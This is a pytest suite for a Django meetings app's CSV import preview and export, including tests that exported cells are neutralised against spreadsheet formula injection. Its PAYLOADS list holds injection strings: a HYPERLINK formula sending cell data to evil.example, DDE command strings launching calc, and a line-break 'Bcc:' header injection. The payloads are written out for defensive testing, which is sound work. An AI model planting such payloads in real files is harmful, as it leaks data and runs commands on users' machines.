"""CSV import with preview (created, changed, refused row by row) and export."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from meetings.domain.csvcells import CsvError, export_cell, import_cell
from meetings.models import AgendaItem, Meeting, Session, SessionDraft
from meetings.selectors.csv_export import csv_export
from meetings.services import publishing
from meetings.services.csv_import import KINDS, csv_import
from tests.factories import (
    AgendaItemFactory,
    BodyFactory,
    DocumentFactory,
    SessionFactory,
    VenueFactory,
)

pytestmark = pytest.mark.django_db

YEAR = """body,number,kind,start_date,end_date,venue,status
council,99,regular,2027-11-23,2027-11-26,geneva,tentative
scpf,9,regular,2027-05-04,2027-05-05,geneva,tentative
scpf,10,regular,2027-10-19,,geneva,tentative
council,99,regular,2027-11-30,2027-11-26,geneva,tentative
nobody,1,regular,2027-01-01,,,
council,abc,regular,2027-02-30,,,
"""


@pytest.fixture
def bodies():
    VenueFactory()
    return BodyFactory(), BodyFactory(key="scpf", name="SCPF", acronym="SCPF")


def test_the_preview_shows_each_row_and_keeps_nothing(bodies):
    report = csv_import("sessions", YEAR, commit=False)
    assert [(r.line, r.action) for r in report.rows] == [
        (2, "create"),
        (3, "create"),
        (4, "create"),
        (
            5,
            "refuse",
        ),  # council-99 exists by now (line 2): a change, but its end is before its start
        (6, "refuse"),
        (7, "refuse"),
    ]
    assert "before the first day" in " ".join(report.rows[3].errors)
    assert report.rows[4].errors == ["body: unknown body 'nobody'"]
    assert report.rows[5].errors == ["number: not a whole number: 'abc'"]
    assert report.summary == {"create": 3, "change": 0, "unchanged": 0, "refuse": 3}
    assert not Session.objects.exists()


def test_a_refused_row_is_named_by_its_key_with_a_plain_message(bodies):
    report = csv_import("sessions", YEAR, commit=False)
    refused = [(r.key, r.errors) for r in report.rows if r.action == "refuse"]
    assert refused[0] == ("council-99", ["end_date: The last day cannot be before the first day."])
    assert [key for key, _errors in refused] == ["council-99", "nobody-1", "council-abc"]
    # A message about the whole row reads as the admin form says it: no "__all__:" before it.
    unnamed = csv_import("sessions", "body,start_date\nscpf,2027-03-02\n", commit=False)
    assert unnamed.rows[0].errors == ["Give the session a number, or a name if it has none."]


def test_confirming_imports_the_year_in_one_go(bodies):
    ok = YEAR.split("\n")[:4]
    report = csv_import("sessions", "\n".join(ok), commit=True)
    assert report.summary == {"create": 3, "change": 0, "unchanged": 0, "refuse": 0}
    assert sorted(Session.objects.values_list("key", "start_date", "end_date", "is_published")) == [
        ("council-99", dt.date(2027, 11, 23), dt.date(2027, 11, 26), False),
        ("scpf-10", dt.date(2027, 10, 19), dt.date(2027, 10, 19), False),
        ("scpf-9", dt.date(2027, 5, 4), dt.date(2027, 5, 5), False),
    ]
    again = csv_import("sessions", "\n".join(ok), commit=True)
    assert again.summary["unchanged"] == 3


def test_a_row_whose_end_is_before_its_start_is_refused_with_the_reason(bodies):
    text = "body,number,start_date,end_date\ncouncil,99,2027-11-30,2027-11-26\n"
    (row,) = csv_import("sessions", text, commit=True).rows
    assert row.action == "refuse" and "before the first day" in " ".join(row.errors)
    assert not Session.objects.exists()


def test_changing_a_published_session_goes_to_its_draft(bodies):
    session = SessionFactory(key="council-99", number=99, start_date=dt.date(2027, 11, 23))
    text = "key,body,start_date,end_date\ncouncil-99,council,2027-12-01,2027-12-03\n"
    (row,) = csv_import("sessions", text, commit=True).rows
    assert row.action == "change" and row.changes["start_date"] == ("2027-11-23", "2027-12-01")
    session.refresh_from_db()
    assert session.start_date == dt.date(2027, 11, 23)
    assert SessionDraft.objects.get().fields["start_date"] == "2027-12-01"
    publishing.session_publish(session=session)
    session.refresh_from_db()
    assert session.start_date == dt.date(2027, 12, 1)


def test_a_column_left_out_changes_nothing(bodies):
    SessionFactory(key="council-99", number=99, notes="Room XVIII", is_published=False)
    (row,) = csv_import(
        "sessions", "key,body,status\ncouncil-99,council,confirmed\n", commit=True
    ).rows
    assert row.action == "change" and set(row.changes) == {"status"}
    assert Session.objects.get().notes == "Room XVIII"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"\xff\xfebody", "not UTF-8"),
        ("", "empty"),
        ("body,colour\ncouncil,red\n", "Unknown column(s): colour"),
        ("number\n1\n", "Missing column(s): body"),
        ("body\x00\n", "NUL"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_whole(bodies, data, message):
    with pytest.raises(CsvError, match=message.replace("(", r"\(").replace(")", r"\)")):
        csv_import("sessions", data, commit=True)


def test_meetings_agenda_items_and_documents_import(bodies):
    session = SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
    meetings = "session,number,date,part,starts_at,ends_at\nscpf-9,1,2030-12-02,morning,2030-12-02T10:00:00+01:00,2030-12-02T13:00:00+01:00\nscpf-9,2,2030-12-02,afternoon,,\nscpf-8,1,,,,\n"
    report = csv_import("meetings", meetings, commit=True)
    assert [r.action for r in report.rows] == ["create", "create", "refuse"]
    assert Meeting.objects.filter(session=session).count() == 2
    agenda = "session,label,title,parent\nscpf-9,1,Adoption of the agenda,\nscpf-9,2,Budget,\nscpf-9,2(a),Programme,2\nscpf-9,3,,\n"
    report = csv_import("agenda_items", agenda, commit=True)
    assert [r.action for r in report.rows] == ["create", "create", "create", "refuse"]
    assert list(
        AgendaItem.objects.filter(session=session).values_list("label", "parent__label")
    ) == [("1", None), ("2", None), ("2(a)", "2")]
    documents = "symbol,title,kind,session\nSCPF/40,Programme and Budget for 2028,programme_budget,scpf-9\nSCPF/41,,other,nowhere\n"
    report = csv_import("documents", documents, commit=True)
    assert [r.action for r in report.rows] == ["create", "refuse"]
    assert [link.document.symbol for link in session.session_documents.all()] == ["SCPF/40"]


def test_an_agenda_row_for_a_published_session_waits_in_its_draft(bodies):
    session = SessionFactory(key="council-99")
    AgendaItemFactory(session=session, label="1", title="Opening")
    (row,) = csv_import(
        "agenda_items", "session,label,title\ncouncil-99,1,Opening of the session\n", commit=True
    ).rows
    assert row.action == "change" and row.changes == {
        "title": ("Opening", "Opening of the session")
    }
    assert AgendaItem.objects.get().title == "Opening"
    assert SessionDraft.objects.get().agenda[0]["title"] == "Opening of the session"


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_an_export_imports_back_unchanged(bodies, kind):
    session = SessionFactory(
        key="council-99", number=99, venue=VenueFactory(), notes='Room, "XVIII"'
    )
    AgendaItemFactory(session=session, label="1", title="Opening")
    document = DocumentFactory(symbol="MC/2300")
    session.session_documents.create(document=document)
    Meeting.objects.create(session=session, number=1, date=session.start_date, part="morning")
    exported = csv_export(kind)
    assert exported.count("\r\n") >= 2
    report = csv_import(kind, exported, commit=False)
    assert {r.action for r in report.rows} == {"unchanged"}


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=300))
def test_any_text_gives_a_report_or_a_clear_error_and_keeps_nothing(bodies, text):
    try:
        report = csv_import("sessions", "body,number,start_date,name\n" + text, commit=False)
    except CsvError as error:
        assert str(error)
    else:
        assert all(r.action in {"create", "change", "unchanged", "refuse"} for r in report.rows)
    assert not Session.objects.exists()


def test_a_stray_carriage_return_in_the_header_is_a_clear_error(bodies):
    with pytest.raises(CsvError, match="Unknown column"):
        csv_import("sessions", 'body,"x\r', commit=False)


# --- lengths and one-line text: refused with the row and the limit, never cut -------------


def test_an_agenda_title_longer_than_the_limit_is_refused_with_the_row_and_the_limit(bodies):
    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
    text = f"session,label,title\nscpf-9,1,Opening\nscpf-9,2,{'x' * 5000}\n"
    report = csv_import("agenda_items", text, commit=True)
    assert [(r.line, r.action, r.errors) for r in report.rows] == [
        (2, "create", []),
        (3, "refuse", ["title: Ensure this value has at most 400 characters (it has 5000)."]),
    ]
    assert list(AgendaItem.objects.values_list("label", "title")) == [("1", "Opening")]


def test_an_over_long_agenda_title_for_a_published_session_never_reaches_its_draft(bodies):
    SessionFactory(key="council-99")
    text = f"session,label,title\ncouncil-99,1,{'x' * 401}\n"
    (row,) = csv_import("agenda_items", text, commit=True).rows
    assert row.action == "refuse"
    assert not SessionDraft.objects.exists()


MINIMAL_ROWS = {
    "sessions": {"body": "council", "number": "1"},
    "meetings": {"session": "scpf-9", "number": "1"},
    "agenda_items": {"session": "scpf-9", "label": "1", "title": "Opening"},
    "documents": {"symbol": "SCPF/40"},
}
LIMITED_COLUMNS = [
    (kind_name, column, field.max_length)
    for kind_name, kind in sorted(KINDS.items())
    for column in kind.columns
    if (field := kind.text_field(column)) is not None and field.max_length
]


def test_every_kind_has_its_length_limited_columns_checked():
    assert {(kind, column) for kind, column, _limit in LIMITED_COLUMNS} >= {
        ("sessions", "name"),
        ("sessions", "date_label"),
        ("meetings", "title"),
        ("agenda_items", "title"),
        ("agenda_items", "label"),
        ("agenda_items", "parent"),
        ("documents", "title"),
        ("documents", "symbol"),
    }


@pytest.mark.parametrize(("kind", "column", "limit"), LIMITED_COLUMNS)
def test_a_cell_longer_than_its_column_allows_is_refused_with_the_limit(
    bodies, kind, column, limit
):
    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
    row = {**MINIMAL_ROWS[kind], column: "a" * (limit + 1)}
    text = ",".join(row) + "\n" + ",".join(row.values()) + "\n"
    (result,) = csv_import(kind, text, commit=True).rows
    assert (result.line, result.action) == (2, "refuse")
    assert (
        f"{column}: Ensure this value has at most {limit} characters (it has {limit + 1})."
        in result.errors
    )


def test_a_line_break_in_a_csv_name_or_title_is_refused_with_the_row(bodies):
    SessionFactory(key="scpf-9", body=bodies[1], number=9, is_published=False)
    report = csv_import(
        "agenda_items",
        'session,label,title\nscpf-9,1,"Opening\r\nBcc: x@example.org"\n',
        commit=True,
    )
    assert [(r.line, r.action, r.errors) for r in report.rows] == [
        (
            3,
            "refuse",
            [
                "title: Names and titles are one line of plain text: remove the control "
                "character U+000D at position 8."
            ],
        )
    ]
    sessions = csv_import("sessions", 'body,name\ncouncil,"Retreat\nand dinner"\n', commit=True)
    assert sessions.rows[0].action == "refuse" and sessions.rows[0].errors[0].startswith("name: ")
    assert not AgendaItem.objects.exists() and not Session.objects.filter(number=None).exists()


# --- CSV injection: exported cells never start a formula; import undoes exactly that -------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "-5",
    "'=already quoted",
    "'s-Hertogenbosch",
    " leading and trailing spaces ",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]


def test_exported_formulas_are_neutralized_and_import_back_exactly(bodies):
    for number, payload in enumerate(PAYLOADS, start=1):
        SessionFactory(key=f"council-{number:02d}", number=number, notes=payload)
    exported = csv_export("sessions")
    cells = _cells(exported)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    notes = [row["notes"] for row in csv.DictReader(io.StringIO(exported, newline=""))]
    assert notes == [export_cell(payload) for payload in PAYLOADS]
    assert notes[:3] == ["'" + PAYLOADS[0], "'" + PAYLOADS[1], "'" + PAYLOADS[2]]
    assert notes[10] == "'s-Hertogenbosch"  # nothing to neutralize: left as it is
    report = csv_import("sessions", exported, commit=True)
    assert {r.action for r in report.rows} == {"unchanged"}
    assert list(Session.objects.order_by("number").values_list("notes", flat=True)) == PAYLOADS


def test_a_leading_tab_is_not_stripped_into_an_active_formula(bodies):
    SessionFactory(key="council-99", number=99, notes="", is_published=False)
    csv_import("sessions", 'key,body,notes\ncouncil-99,council,"\t=1+1"\n', commit=True)
    assert Session.objects.get().notes == "\t=1+1"
    (row,) = csv.DictReader(io.StringIO(csv_export("sessions"), newline=""))
    assert row["notes"] == "'\t=1+1"


def test_a_hand_written_apostrophe_before_a_formula_character_is_the_escape(bodies):
    SessionFactory(key="council-99", number=99, notes="", is_published=False)
    csv_import("sessions", "key,body,notes\ncouncil-99,council,'-5 delegates\n", commit=True)
    assert Session.objects.get().notes == "-5 delegates"


@pytest.mark.parametrize("path", ["/api/v1/exports/sessions/", "admin"])
def test_the_api_and_the_admin_exports_are_neutralized(bodies, client, editor, path):
    SessionFactory(key="council-99", number=99, notes="=cmd|' /C calc'!A0")
    if path == "admin":
        editor.is_superuser = True
        editor.save()
        path = reverse("admin:meetings_session_export", args=["sessions"])
    client.force_login(editor)
    response = client.get(path)
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode(), newline=""))
    assert row["notes"] == "'=cmd|' /C calc'!A0"


@given(st.text())
def test_any_cell_text_survives_export_then_import_and_never_starts_a_formula(text):
    cell = export_cell(text)
    assert import_cell(cell) == text
    assert not cell.startswith(FORMULA_STARTS)


# PostgreSQL text cannot hold NUL, and a file with NUL is refused whole.
NOTES = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=60)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(NOTES)
def test_any_stored_text_round_trips_through_a_csv_file(bodies, notes):
    session = Session.objects.first() or SessionFactory(key="council-99", number=99)
    Session.objects.filter(pk=session.pk).update(notes=notes)
    exported = csv_export("sessions")
    assert not [cell for cell in _cells(exported) if cell.startswith(FORMULA_STARTS)]
    (row,) = csv_import("sessions", exported, commit=False).rows
    assert (row.action, row.errors) == ("unchanged", [])
